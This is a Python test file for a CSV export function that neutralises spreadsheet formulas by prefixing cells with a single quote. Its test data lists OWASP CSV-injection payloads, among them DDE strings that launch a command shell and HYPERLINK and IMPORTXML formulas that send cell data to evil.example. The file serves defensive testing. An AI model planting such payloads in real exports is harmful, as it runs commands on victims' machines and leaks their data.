"""Formula neutralising over OWASP's CSV-injection list, the same after blanks or line breaks, and
in full width: every one gets the single quote, and text that only looks near one does not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parley.conversations.export.quoting import FORMULA_STARTS, LEADING_BLANKS, neutralise

# From OWASP's "CSV Injection" page: its payloads and the characters it lists.
OWASP = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "-2+3+cmd|' /C calc'!A0",
    '+DDE("cmd";"/C calc";"!A0")',
]
HIDDEN = [" =1+1", "\n=1+1", "\r\n@SUM(A1)", " \t -1", "\u00a0+1", "\u3000=1", "\n\n\n=1"]
FULL_WIDTH = ["\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", " \uff1d1"]
HARMLESS = ["plain", " plain", "\nplain", "1=1", "a+b", "", " ", "\n", "'=already neutral"]


@pytest.mark.parametrize("value", OWASP + HIDDEN + FULL_WIDTH)
def test_formula_cells_get_a_quote_in_front(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


VISIBLE_STARTS = [start for start in FORMULA_STARTS if start not in LEADING_BLANKS]


@given(st.text(alphabet=LEADING_BLANKS, max_size=5), st.sampled_from(VISIBLE_STARTS), st.text(max_size=20))
def test_any_blanks_then_a_formula_character_is_neutralised(blanks: str, start: str, rest: str) -> None:
    value = blanks + start + rest
    assert neutralise(value) == "'" + value
